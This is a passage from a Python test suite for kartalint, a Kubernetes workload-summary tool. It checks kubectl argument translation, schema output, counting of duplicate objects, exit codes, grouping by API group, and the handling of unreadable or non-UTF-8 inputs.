    outputs = re.findall(r"<!-- docs-output: (exact|excerpt) -->\n```text\n(.*?)```", page, re.S)
    assert [kind for kind, _ in outputs] == ["exact", "exact", "excerpt"]
    setup_fleet(tmp_path)
    env = dict(os.environ, PATH=f"{tmp_path / 'bin'}{os.pathsep}{os.path.dirname(sys.executable)}{os.pathsep}"
               f"{os.environ['PATH']}")  # fmt: skip
    env.pop("CI", None)
    proc = subprocess.run(["bash", "-e", "-o", "pipefail", "-c", script], cwd=tmp_path, capture_output=True,
                          text=True, env=env, timeout=300)  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    printed = proc.stdout
    for kind, text in outputs:
        if kind == "exact":
            assert text in printed, f"docs/fleet.md shows:\n{text}\nthe commands print:\n{printed}"
            continue
        position = 0
        for line in text.splitlines():
            if line == "...":
                continue
            found = printed.find(line + "\n", position)
            assert found >= 0, f"not printed (in this order): {line!r}\n{printed}"
            position = found + len(line)


def test_kubectl_karta_describe_without_a_file_reads_the_cluster():
    from kartalint.cli.kubectl import translate

    assert translate(["describe", "jobset", "demo", "-n", "ml"]) == [
        "describe",
        "--kubectl",
        "jobset",
        "demo",
        "-n",
        "ml",
    ]
    assert translate(["describe", "jobset/demo", "-n=ml", "--context", "prod", "-o", "json"]) == [
        "describe", "--kubectl", "jobset/demo", "-n", "ml", "--context", "prod", "--format", "json"]  # fmt: skip
    assert translate(["describe", "--summary", "-A", "-o", "wide"]) == [
        "describe", "--kubectl", "--summary", "-A", "--format", "table"]  # fmt: skip
    assert translate(["describe", "-f", "job.yaml"]) == ["describe", "job.yaml"]  # a file: no cluster


def test_schema_summary_prints_the_versioned_schema_of_the_documents(capsys):
    from kartalint.evaluation.fleet import SCHEMA_VERSION

    code, out, _ = run(capsys, "schema", "--summary")
    schema = json.loads(out)
    assert code == 0 and schema["$id"].endswith(f"summary-v{SCHEMA_VERSION}.json") and SCHEMA_VERSION == 2
    assert schema["$defs"]["summary"]["properties"]["schemaVersion"] == {"const": SCHEMA_VERSION}
    assert schema["$defs"]["comparison"]["properties"]["schemaVersion"] == {"const": SCHEMA_VERSION}
    with open(SCHEMA, encoding="utf-8") as handle:
        assert json.load(handle) == schema


def test_one_pass_figures_are_the_views_own():
    """The summary counts each component's resources once (`usage.workload_figures`): the same
    figures as the view's properties, on every catalog fixture's object, with and without pods."""
    from test_project import KUBECTL_JOBSET, kubectl_pods

    from kartalint.evaluation import Evaluator
    from kartalint.evaluation.usage import roles_of, workload_figures
    from kartalint.load.definitions import default_index, object_gvk

    index = default_index()
    found = [(index.find(object_gvk(obj)), obj, None) for _, obj in catalog_fixture_objects()]
    found.append((index.find(object_gvk(yaml.safe_load(KUBECTL_JOBSET))), yaml.safe_load(KUBECTL_JOBSET),
                  yaml.safe_load(kubectl_pods())["items"]))  # fmt: skip
    with Evaluator() as evaluator:
        views = evaluator.evaluate_all([(d.data, obj, pods) for d, obj, pods in found if d is not None])
    assert len(views) == len(found) > 300
    for view in views:
        assert workload_figures(view) == (view.resources, view.replicas, roles_of(view))


def test_a_json_lists_entries_go_to_jq_as_read_only_where_jq_makes_the_same_of_them(tmp_path, monkeypatch, capsys):
    """The summary hands jq each entry of a JSON List as its text was read, instead of encoding the
    decoded entry again, only where jq makes the same of both: jq keeps a number's text (`1.50 |
    tostring` is "1.50", `-0` stays "-0", `1e2` is "1E+2"), so an entry with such a number is
    encoded again. Either way the rows are those of the same objects read from YAML."""
    from conftest import BASE_DEFINITION

    from kartalint.load.objects import stream_objects
    from kartalint.load.plain_json import reusable

    monkeypatch.chdir(tmp_path)
    (tmp_path / "trainer.yaml").write_text(
        BASE_DEFINITION.replace("instanceIdPath: .spec.roles[].name", "instanceIdPath: .spec.roles[].id | tostring")
    )

    def trainer(name: str, ids: list[str]) -> str:
        roles = ", ".join(
            f'{{"name": "r{i}", "id": {id_}, "replicas": 2, "template": {{"spec": {{"containers": '
            f'[{{"name": "c", "resources": {{"limits": {{"nvidia.com/gpu": 1}}}}}}]}}}}}}'
            for i, id_ in enumerate(ids)
        )
        return (f'{{"apiVersion": "example.com/v1", "kind": "Trainer", "metadata": {{"name": "{name}", '
                f'"namespace": "team-0", "labels": {{"note": "caf\\u00e9 \\/ v-0"}}}}, "spec": {{"roles": [{roles}]}}}}')  # fmt: skip

    text = ('{"apiVersion": "v1", "kind": "List", "items": [\n' + trainer("t-0", ["1", "-2", "30"]) + ",\n"
            + trainer("odd", ["1.50", "-0", "1e2"]) + ",\n" + trainer("zero", ["-0", "4"]) + "\n]}\n")  # fmt: skip
    (tmp_path / "fleet.json").write_text(text)
    (tmp_path / "fleet.yaml").write_text(yaml.safe_dump(json.loads(text)))
    read = {o.data["metadata"]["name"]: o.text for o in stream_objects("fleet.json")}
    assert read["t-0"] is not None and json.loads(read["t-0"]) == json.loads(text)["items"][0]
    assert read["odd"] is None and read["zero"] is None  # a fraction or exponent; a -0
    assert not reusable('{"a": [1, -0]}') and not reusable('{"a": -0}') and reusable('{"a": "x-0", "b": -01e}')
    assert not reusable('{"a": ' + "[" * 300 + "]" * 300 + "}")  # deeper than jq is handed: encoded, and refused
    docs = {}
    for name in ("fleet.json", "fleet.yaml"):
        code, doc, err = summary_json(capsys, name, "--rows", "role", "--definition", "trainer.yaml")
        assert code == 0, err
        docs[name] = [{k: v for k, v in row.items() if k != "origin"} for row in doc["rows"]]
    assert docs["fleet.json"] == docs["fleet.yaml"]
    instances = {(r["name"], r["instance"]) for r in docs["fleet.json"]}
    assert instances == {("t-0", "1"), ("t-0", "-2"), ("t-0", "30"), ("odd", "0"), ("odd", "1.5"),
                         ("odd", "100.0"), ("zero", "0"), ("zero", "4")}  # fmt: skip


def test_the_fleet_summary_holds_the_exit_code_and_says_what_it_could_not_count(tmp_path, monkeypatch, workloads):
    """The exit policy of ``describe --summary`` belongs to its result (``FleetSummary``): 2 when
    nothing was read or no object is covered, 1 when a place could not be read, kubectl refused a
    list or the figures differ, else 0; with the places that could not be read and why a summary
    that says nothing is an error, in words."""
    from kartalint.evaluation import Evaluator
    from kartalint.evaluation.fleet import summarise
    from kartalint.evaluation.fleet_sources import FileSource, chooser
    from kartalint.evaluation.fleet_totals import FleetSummary
    from kartalint.load.definitions import DefinitionIndex, bundled_catalog

    monkeypatch.chdir(tmp_path)
    (tmp_path / "fleet.yaml").write_text(as_list(workloads))
    (tmp_path / "empty.yaml").write_text("# nothing\n")
    (tmp_path / "secrets.yaml").write_text(as_list([{"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s"}}]))
    (tmp_path / "broken.yaml").write_text("kind: [unclosed\n")
    choose, _ = chooser([DefinitionIndex.from_paths([bundled_catalog()], origin="bundled")])

    def walked(*paths):
        source = FileSource(paths, None, 10**9)
        with Evaluator() as evaluator:
            fleet = FleetSummary(summarise(source.items(), choose, evaluator))
            assert len(list(fleet.entries())) == fleet.totals.objects + fleet.totals.unreadable_count
        return fleet, source.what()

    fleet, what = walked("fleet.yaml")
    assert fleet.totals.all.workloads == len(workloads) and fleet.unreadable_lines() == []
    assert fleet.empty_problem(what, 0) is None and fleet.exit_code(0, False) == 0
    assert fleet.exit_code(1, False) == fleet.exit_code(0, True) == 1  # kubectl refused a list; figures differ
    empty, what = walked("empty.yaml")
    assert empty.empty_problem(what, 0) == "empty.yaml: no Kubernetes object found" and empty.exit_code(0, False) == 2
    assert empty.empty_problem(what, 1) is None and empty.exit_code(1, False) == 1  # not whole: not empty
    secrets, what = walked("secrets.yaml")
    assert secrets.empty_problem(what, 0) == "no object is covered by a definition (the summary counts them by kind)"
    assert secrets.exit_code(0, False) == 2
    broken, what = walked("broken.yaml")
    assert broken.unreadable_lines() == [
        "broken.yaml:2:1: YAML syntax error: did not find expected ',' or ']' (while parsing a flow sequence)"
    ]
    assert broken.empty_problem(what, 0) is None and broken.exit_code(0, False) == 2  # (said by the line above)
    half, what = walked("broken.yaml", "fleet.yaml")
    assert what == "broken.yaml, fleet.yaml" and len(half.unreadable_lines()) == 1 and half.exit_code(0, False) == 1


def test_the_summary_chooses_a_definition_from_the_first_index_that_has_one(tmp_path):
    """``--definition`` before the project's definitions and the bundled catalog: an object gets the
    first index's definition of its group/version/kind; every (group, kind) either covers is listed
    with its versions (the kinds a live summary lists)."""
    from kartalint.evaluation.fleet_sources import chooser
    from kartalint.load.definitions import DefinitionIndex, bundled_catalog

    with open(os.path.join(bundled_catalog(), "batch-job-v1.yaml"), encoding="utf-8") as handle:
        definition = yaml.safe_load(handle)
    definition["metadata"]["name"] = "our-job"
    (tmp_path / "job.yaml").write_text(yaml.safe_dump(definition))
    fixed = DefinitionIndex.from_paths([str(tmp_path / "job.yaml")])
    bundled = DefinitionIndex.from_paths([bundled_catalog()], origin="bundled")
    choose, covered = chooser([fixed, bundled])
    job = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
    jobset = fixture_object(os.path.join(FIXTURES, "jobset-x-k8s-io-jobset-v1alpha2", "running-running-v0_12_0.yaml"))
    assert choose(job).name == "our-job" and chooser([bundled])[0](job).name != "our-job"
    assert choose(jobset).name == bundled.find(("jobset.x-k8s.io", "v1alpha2", "JobSet")).name
    assert choose({"apiVersion": "v1", "kind": "Secret"}) is None
    assert covered[("batch", "Job")] == ["v1", "v1"]  # (each index's; listed once at the most stable)
    assert covered[("jobset.x-k8s.io", "JobSet")] == ["v1alpha2"]


@pytest.mark.parametrize("place", ["fifo", "folder", "device"])
def test_compare_never_waits_on_a_fifo_nor_reads_a_device(dump, place):
    """A --compare file that is not a regular file is refused at once, unread (a FIFO with no
    writer blocked the summary for ever; /dev/zero was read to the size limit)."""
    figures = dump.parent / "figures.csv"
    if place == "fifo":
        os.mkfifo(figures)
    elif place == "folder":
        figures.mkdir()
    else:
        figures.symlink_to("/dev/zero")
    done = subprocess.run(
        [sys.executable, "-m", "kartalint", "describe", str(dump), "--summary", "--compare", str(figures)],
        capture_output=True,
        text=True,
        timeout=120,  # (the hang this guards against never ends: a pass ends in about a second)
    )
    assert done.returncode == 2 and done.stdout == "", done.stderr
    says = "a folder, not a file" if place == "folder" else "file is not a regular file"
    assert done.stderr.count("\n") == 1 and f"{figures}: {says}" in done.stderr, done.stderr


def test_an_object_met_again_in_the_same_state_is_counted_once(tmp_path, monkeypatch, capsys):
    """Two dumps that overlap (`kubectl get jobsets -A` and `kubectl get jobsets -n team-0` saved
    together), or one file given twice: the same object (uid and resourceVersion) counts once, and
    a note says so; the same uid at another resourceVersion (dumps of two moments) is counted and
    said. A quota report must not count a workload twice without a word."""
    monkeypatch.chdir(tmp_path)
    objects = recorded_workloads()  # (trimmed of resourceVersion: given as kubectl prints it)
    first, second = (
        copy.deepcopy(objects[0]),
        next(copy.deepcopy(o) for o in objects if o["metadata"]["uid"] != objects[0]["metadata"]["uid"]),
    )
    first["metadata"]["resourceVersion"], second["metadata"]["resourceVersion"] = "48213", "48977"
    later = copy.deepcopy(first)
    later["metadata"]["resourceVersion"] = str(first["metadata"]["resourceVersion"]) + "1"
    (tmp_path / "all.yaml").write_text(as_list([first, second]))
    (tmp_path / "team.yaml").write_text(as_list([second]))
    (tmp_path / "later.yaml").write_text(as_list([later]))
    _, alone, _ = summary_json(capsys, "all.yaml")
    code, doc, err = summary_json(capsys, "all.yaml", "team.yaml", "all.yaml")
    assert code == 0 and doc["totals"]["all"] == alone["totals"]["all"] and len(doc["rows"]) == 2, err
    notes = [line for line in err.splitlines() if line.startswith("kartalint: note:")]
    assert notes == [
        "kartalint: note: all.yaml is given twice: read once",
        f"kartalint: note: team.yaml:3: the object of all.yaml:{notes[1].split('all.yaml:')[1].split(' ')[0]} "
        f"again (uid {second['metadata']['uid']}): counted once",
    ]
    code, doc, err = summary_json(capsys, "all.yaml", "later.yaml")
    assert code == 0 and len(doc["rows"]) == 3
    assert f"(uid {first['metadata']['uid']}) at another resourceVersion" in err and "counted twice" in err
    # the same uid without resourceVersion in either (objects trimmed as `kubectl neat` or a chart
    # writes them): the same object met again, counted once and said; with it in one only: two
    # states, counted twice and said (they were both counted without a word)
    plain = copy.deepcopy(first)
    del plain["metadata"]["resourceVersion"]
    (tmp_path / "a.yaml").write_text(as_list([plain]))
    (tmp_path / "b.yaml").write_text(as_list([plain]))
    _, alone, _ = summary_json(capsys, "a.yaml")
    code, doc, err = summary_json(capsys, "a.yaml", "b.yaml")
    assert code == 0 and doc["totals"]["all"] == alone["totals"]["all"] and len(doc["rows"]) == 1, err
    assert f"b.yaml:3: the object of a.yaml:3 again (uid {first['metadata']['uid']}): counted once" in err, err
    moved = copy.deepcopy(plain)  # the same object at another moment, trimmed of resourceVersion
    moved["status"] = {**moved.get("status", {}), "startTime": "2099-01-01T00:00:00Z"}
    (tmp_path / "c.yaml").write_text(as_list([moved]))
    code, doc, err = summary_json(capsys, "a.yaml", "c.yaml")
    assert code == 0 and len(doc["rows"]) == 2
    assert (
        f"c.yaml:3: the object of a.yaml:3 (uid {first['metadata']['uid']}) in another state, neither with a "
        "resourceVersion to tell them apart: counted twice" in err
    ), err
    code, doc, err = summary_json(capsys, "a.yaml", "later.yaml")
    assert code == 0 and len(doc["rows"]) == 2
    assert (
        f"(uid {first['metadata']['uid']}) at another resourceVersion ({later['metadata']['resourceVersion']}, there none)"
        in err
    ), err
    # many of each: the first three of each said, and how many more of each, never mixed
    copies = [copy.deepcopy(o) for o in objects[:8]]
    for i, obj in enumerate(copies):
        obj["metadata"].update(uid=f"uid-copy-{i}", resourceVersion="1")
    moved = [copy.deepcopy(o) for o in copies[4:]]
    for obj in moved:
        obj["metadata"]["resourceVersion"] = "2"
    (tmp_path / "one.yaml").write_text(as_list(copies))
    (tmp_path / "two.yaml").write_text(as_list(copies[:4] + moved))
    code, doc, err = summary_json(capsys, "one.yaml", "two.yaml")
    notes = [line for line in err.splitlines() if line.startswith("kartalint: note:")]
    assert code == 0 and len(doc["rows"]) == 12
    assert [n.endswith("counted once") for n in notes[:3]] == [True] * 3 and "at another" not in "".join(notes[:3])
    assert notes[3] == "kartalint: note: and 1 more object(s) met again in the same state: counted once"
    assert [n.endswith("(dumps of two moments?)") for n in notes[4:7]] == [True] * 3
    assert notes[7] == "kartalint: note: and 1 more object(s) met again at another resourceVersion: counted twice"


def test_totals_by_kind_keep_two_api_groups_apart(tmp_path, monkeypatch, capsys):
    """A Volcano `Job` (batch.volcano.sh) and a batch/v1 Job in one namespace are two kinds in the
    totals, each shown with its group (`Job (batch.volcano.sh)`), never one `Job` of both; a kind
    that one group serves keeps its plain name."""
    monkeypatch.chdir(tmp_path)
    volcano = fixture_object(os.path.join(FIXTURES, "batch-volcano-sh-job-v1alpha1", "running.yaml"))
    batch = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
    jobset = fixture_object(os.path.join(FIXTURES, "jobset-x-k8s-io-jobset-v1alpha2", "running-running-v0_12_0.yaml"))
    for obj, name in ((volcano, "train"), (batch, "train"), (jobset, "demo")):
        obj["metadata"].update(name=name, namespace="team-c", uid=f"uid-{obj['kind']}-{obj['apiVersion']}")
    (tmp_path / "dump.yaml").write_text(as_list([volcano, batch, jobset]))
    code, doc, err = summary_json(capsys, "dump.yaml")
    assert code == 0, err
    groups = {group["key"]["kind"]: group["workloads"] for group in doc["totals"]["groups"]}
    assert groups == {"Job (batch)": 1, "Job (batch.volcano.sh)": 1, "JobSet": 1}, groups
    code, out, _ = run(capsys, "describe", "dump.yaml", "--summary", "--group-by", "kind")
    assert "Job (batch.volcano.sh)" in out and "Job (batch)" in out
    (tmp_path / "batch.yaml").write_text(as_list([batch, jobset]))
    code, doc, _ = summary_json(capsys, "batch.yaml")
    assert sorted(group["key"]["kind"] for group in doc["totals"]["groups"]) == ["Job", "JobSet"]


def test_pods_given_that_no_workload_gets_are_said(tmp_path, monkeypatch, capsys):
    """`--summary --pods` with the pods of a JobSet but not their Jobs: READY 0, and a note says the
    pods' owners are not in the file and what to give; with the Jobs, every pod is placed and
    nothing is said."""
    monkeypatch.chdir(tmp_path)
    jobset, *rest = demo_jobset_with_jobs_and_pods()
    (tmp_path / "demo.yaml").write_text(as_list([jobset]))
    (tmp_path / "pods.yaml").write_text(as_list([p for p in rest if p["kind"] == "Pod"]))
    (tmp_path / "pods-and-jobs.yaml").write_text(as_list(rest))
    code, doc, err = summary_json(capsys, "demo.yaml", "--pods", "pods.yaml")
    pods = len([p for p in rest if p["kind"] == "Pod"])
    assert code == 0 and doc["rows"][0]["ready"] == 0, err
    assert f"kartalint: note: {pods} pod(s) given are owned by Job " in err
    assert "not in the pods file: counted under no workload; give the owners in between" in err
    code, doc, err = summary_json(capsys, "demo.yaml", "--pods", "pods-and-jobs.yaml")
    assert code == 0 and doc["rows"][0]["ready"] > 0 and "pod(s) given" not in err, err


@pytest.mark.parametrize("unreadable", ["missing", "folder", "not-utf8", "malformed", "empty"])
def test_no_report_but_json_when_no_input_could_be_read(dump, capsys, unreadable):
    """An input that cannot be read (missing, a folder, not UTF-8, malformed YAML) or holds no object,
    and nothing else given: exit 2 with the error on stderr, and no table, CSV or Markdown on stdout
    (an empty fleet was written, which a script took for a fleet of nothing); an ``-o`` file is left
    as it was. The JSON document is written: its ``unreadable`` says what could not be read. The
    same with --compare. With one readable input the others' errors go with a report (exit 1)."""
    path = dump.parent / "input.yaml"
    if unreadable == "folder":
        path.mkdir()
    elif unreadable == "not-utf8":
        path.write_bytes(b"apiVersion: v1\nkind: Pod\nmetadata: {name: caf\xe9}\n")
    elif unreadable == "malformed":
        path.write_text("apiVersion: [v1\n")
    elif unreadable == "empty":
        path.write_text("# nothing yet\n")
    (dump.parent / "figures.csv").write_text("namespace,gpus\nteam-0,4\n")
    for compare in ((), ("--compare", "figures.csv")):
        for fmt in ("table", "csv", "markdown"):
            code, out, err = run(capsys, "describe", "input.yaml", "--summary", "-f", fmt, *compare)
            assert (code, out) == (2, ""), (fmt, compare, out)
            assert err.startswith("kartalint: error: input.yaml") and err.count("\n") == 1, err
            (dump.parent / "report.txt").write_text("the last report\n")
            code, out, err = run(capsys, "describe", "input.yaml", "--summary", "-f", fmt, *compare, "-o", "report.txt")
            assert (code, out) == (2, "") and (dump.parent / "report.txt").read_text() == "the last report\n", err
            assert not [name for name in os.listdir(dump.parent) if name.endswith(".tmp")]
        code, doc, err = summary_json(capsys, "input.yaml", *compare)
        assert code == 2 and doc["document"] == ("comparison" if compare else "summary")
        if unreadable == "empty":
            assert doc["unreadableCount"] == 0 and "input.yaml: no Kubernetes object found" in err
        else:
            assert doc["unreadableCount"] == 1 and doc["unreadable"][0]["origin"].startswith("input.yaml"), doc
    code, out, err = run(capsys, "describe", "fleet.yaml", "input.yaml", "--summary", "-f", "csv")
    assert code == (0 if unreadable == "empty" else 1) and out.count("\n") > 10 and out.startswith("namespace,"), err


def test_summary_of_standard_input_that_is_not_utf8_says_so_as_the_file_does(dump, capsys, monkeypatch):
    """`describe --summary - < binary`: the full loader read again only the bytes standard input
    had handed over so far (a short read), so it said a YAML error at a control character where the
    same file by name says it is not UTF-8 at its first bad byte: now both say the same."""
    binary = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4  # (the head of an executable)
    (dump.parent / "binary.yaml").write_bytes(binary)
    code, out, err = run(capsys, "describe", "binary.yaml", "--summary")
    assert (code, out, err) == (
        2,
        "",
        "kartalint: error: binary.yaml:2: file is not valid UTF-8: byte 0x80 at offset 135\n",
    )
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(binary)))
    code, out, err = run(capsys, "describe", "-", "--summary")
    assert (code, out, err) == (
        2,
        "",
        "kartalint: error: <stdin>:2: file is not valid UTF-8: byte 0x80 at offset 135\n",
    )


def test_totals_by_kind_carry_the_api_group_of_their_kind(tmp_path, monkeypatch, capsys):
    """Each by-kind total of the JSON has the kind's API group in `group` ("" for the core group),
    whether or not the key's kind names it (it does only where two groups serve the kind), so a
    script keyed by (kind, group) gets the same keys from any dump; without kind in --group-by
    there is no `group`. The keys and strings are as before."""
    monkeypatch.chdir(tmp_path)
    volcano = fixture_object(os.path.join(FIXTURES, "batch-volcano-sh-job-v1alpha1", "running.yaml"))
    batch = fixture_object(os.path.join(FIXTURES, "batch-job-v1", "running.yaml"))
    jobset = fixture_object(os.path.join(FIXTURES, "jobset-x-k8s-io-jobset-v1alpha2", "running-running-v0_12_0.yaml"))
    pod = fixture_object(os.path.join(FIXTURES, "core-pod-v1", "running.yaml"))
    for obj, name in ((volcano, "train"), (batch, "train"), (jobset, "demo"), (pod, "solo")):
        obj["metadata"].update(name=name, namespace="team-c", uid=f"uid-{obj['kind']}-{obj['apiVersion']}")
    (tmp_path / "dump.yaml").write_text(as_list([volcano, batch, jobset, pod]))
    (tmp_path / "batch.yaml").write_text(as_list([batch, jobset]))
    code, doc, err = summary_json(capsys, "dump.yaml")
    assert code == 0, err
    validate(doc)
    assert [(g["key"], g["group"], g["workloads"]) for g in doc["totals"]["groups"]] == [
        ({"namespace": "team-c", "kind": "Job (batch)"}, "batch", 1),
        ({"namespace": "team-c", "kind": "Job (batch.volcano.sh)"}, "batch.volcano.sh", 1),
        ({"namespace": "team-c", "kind": "JobSet"}, "jobset.x-k8s.io", 1),
        ({"namespace": "team-c", "kind": "Pod"}, "", 1),
    ]
    code, doc, err = summary_json(capsys, "batch.yaml", "--group-by", "kind", "--group-by", "status")
    assert code == 0, err
    validate(doc)
    assert [(g["key"]["kind"], g["group"]) for g in doc["totals"]["groups"]] == [
        ("Job", "batch"),
        ("JobSet", "jobset.x-k8s.io"),
    ]
    code, doc, err = summary_json(capsys, "dump.yaml", "--group-by", "namespace")
    assert code == 0 and [sorted(g) for g in doc["totals"]["groups"]] == [
        ["key", "ready", "replicas", "resources", "workloads"]
    ]
    validate(doc)
    doc["totals"]["groups"][0]["group"] = "batch"
    with pytest.raises(AssertionError):
        validate(doc)  # no group without kind in groupBy
